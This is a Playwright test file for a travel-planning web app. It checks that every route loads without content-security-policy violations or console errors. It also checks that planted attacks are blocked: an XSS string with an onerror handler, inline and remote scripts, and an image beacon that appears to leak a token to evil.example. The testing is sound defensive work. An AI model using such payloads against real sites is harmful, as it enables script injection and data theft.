import { readFileSync } from 'node:fs';
import { expect, type Page, test } from '@playwright/test';

/** No screen breaks the policy under which it is sent, and none says an error in the console; what somebody plants is stopped. */

/** Every path of the route table, as web/routes.tsx says it. */
const ROUTES = [...readFileSync('web/routes.tsx', 'utf8').matchAll(/^ {2}\['(\/[^']*)', '[a-z-]+\/[a-z-]+'\]/gm)].map(
  ([, path]) => path!,
);

/** What the browser stopped and what the console complained of, on every page of this test from now on. */
async function listen(page: Page): Promise<string[]> {
  const heard: string[] = [];
  await page.exposeFunction('stopped', (what: string) => heard.push(what));
  await page.addInitScript(() => {
    addEventListener('securitypolicyviolation', (event) => {
      const { effectiveDirective, blockedURI, sourceFile, sample } = event as SecurityPolicyViolationEvent;
      const { stopped } = window as unknown as { stopped(what: string): void };
      stopped(`${location.pathname}: ${effectiveDirective} stopped ${blockedURI} of ${sourceFile}: ${sample}`);
    });
  });
  page.on('console', (line) => {
    // What the server refuses on purpose (nothing has that number) is no fault of a screen.
    if (/status of 4\d\d/.test(line.text())) return;
    if (line.type() === 'error' || /violates|Permissions-Policy|Trusted/.test(line.text()))
      heard.push(`${new URL(page.url()).pathname}: ${line.text()}`);
  });
  page.on('pageerror', (error) => heard.push(`${new URL(page.url()).pathname}: ${error.message}`));
  return heard;
}

async function ready(page: Page, path: string) {
  await page.goto(path);
  await page.locator('html[data-ready]').waitFor();
  await page.waitForLoadState('networkidle');
}

async function planTwoDays(page: Page) {
  const day = new Date(Date.now() + 21 * 86_400_000).toISOString().slice(0, 10);
  await ready(page, `/arma-tu-viaje?desde=${day}&dias=2`);
  await page.getByRole('button', { name: 'Ver mi plan' }).click();
  await page.waitForURL(/\/viajes\/[\w-]+/);
  await expect(page.locator('[data-ribbon-day="0"] [data-stop]').first()).toBeVisible();
}

test('every screen keeps to the policy and to silence', async ({ page, request }) => {
  test.setTimeout(180_000);
  expect(ROUTES.length).toBeGreaterThan(10);
  const heard = await listen(page);
  await planTwoDays(page);
  const trip = new URL(page.url()).pathname.split('/')[2]!;

  const pins = (await (await request.get('/api/search/pins')).json()).pins as [string, string][];
  const itinerary = /\/itinerarios\/([\w-]+)"/.exec(await (await request.get('/itinerarios')).text())?.[1] ?? '';
  const parameters: Record<string, string> = {
    '/lugares/:slug': pins[0]![1],
    '/itinerarios/:slug': itinerary,
    '/politicas/:kind': 'privacy',
    '/viajes/:id': trip,
    '/viajes/:id/imprimir': trip,
  };
  for (const route of ROUTES) {
    const path = route.replace(/:\w+/, parameters[route] ?? 'nada');
    await ready(page, path);
    await expect(page.locator('h1').first(), path).toBeAttached();
  }
  // Arrived at inside the page too: heads and styles are then made by scripts.
  await ready(page, '/explorar');
  await expect(page.locator('[data-map="live"]').first()).toBeVisible({ timeout: 30_000 });
  await page.locator('a[href^="/lugares/"]').first().click();
  await page.waitForURL(/\/lugares\//);
  await expect(page.locator('script[type="application/ld+json"]').first()).toBeAttached();
  await page.goto('/api/docs');
  expect(heard).toEqual([]);
});

test('what is planted is stopped, and heard here', async ({ page }) => {
  const heard = await listen(page);
  await ready(page, '/ayuda');
  const ran = await page.evaluate(async () => {
    const tries: [string, () => unknown][] = [
      ['html', () => Object.assign(document.createElement('p'), { innerHTML: '<img src=x onerror=alert(1)>' })],
      ['script text', () => Object.assign(document.createElement('script'), { textContent: 'alert(1)' })],
      ['script address', () => Object.assign(document.createElement('script'), { src: 'https://evil.example/x.js' })],
      ['worker', () => new Worker('data:text/javascript,1')],
      [
        'policy',
        () =>
          (
            window as never as { trustedTypes: { createPolicy(name: string, r: object): unknown } }
          ).trustedTypes.createPolicy('mine', {}),
      ],
    ];
    const passed = tries.filter(([, run]) => {
      try {
        run();
        return true;
      } catch {
        return false;
      }
    });
    const image = new Image();
    image.src = 'https://evil.example/leak.png?token=1';
    const handler = document.createElement('p');
    handler.setAttribute('style', 'color: red');
    document.body.append(handler);
    const frame = Object.assign(document.createElement('iframe'), { src: 'https://evil.example/' });
    document.body.append(frame);
    await new Promise((resolve) => setTimeout(resolve, 500));
    return passed.map(([name]) => name);
  });
  expect(ran).toEqual([]);
  for (const rule of ['require-trusted-types-for', 'trusted-types', 'img-src', 'frame-src']) {
    expect(
      heard.some((line) => line.includes(` ${rule} `)),
      `${rule} in ${heard.join('\n')}`,
    ).toBe(true);
  }
});
